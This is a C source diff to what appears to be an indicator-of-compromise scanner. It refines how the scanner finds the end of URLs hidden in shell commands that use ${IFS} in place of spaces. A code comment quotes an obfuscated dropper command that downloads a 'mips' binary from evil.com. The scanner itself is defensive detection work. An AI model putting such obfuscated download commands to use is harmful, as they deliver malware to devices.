@@ -4865,9 +4865,12 @@ url_end(struct ioc_scanner *sc, size_t i)
 	    !cjk_char(t, sc->text.len, e)))
 		e++;
 	e = shell_options(sc, i, url_sep_end(sc, i, e));
-	/* a shell's variable: "wget${IFS}http://evil.com/mips${IFS}-O" */
-	for (p = memchr(t + i, '$', e - i); p != NULL; p = memchr(p + 1, '$',
-	    e - (size_t)(p + 1 - t)))
+	/* a shell's variable: "wget${IFS}http://evil.com/mips${IFS}-O",
+	 * where a command line is written with no blank, the URL glued
+	 * to what is before it */
+	for (p = i > 0 && (t[i - 1] == '}' || (sc->cls[(unsigned
+	    char)t[i - 1]] & C_ALNUM)) ? memchr(t + i, '$', e - i) : NULL;
+	    p != NULL; p = memchr(p + 1, '$', e - (size_t)(p + 1 - t)))
 		if (p[1] == '{' || strncmp(p + 1, "IFS", 3) == 0) {
 			e = (size_t)(p - t);
 			break;
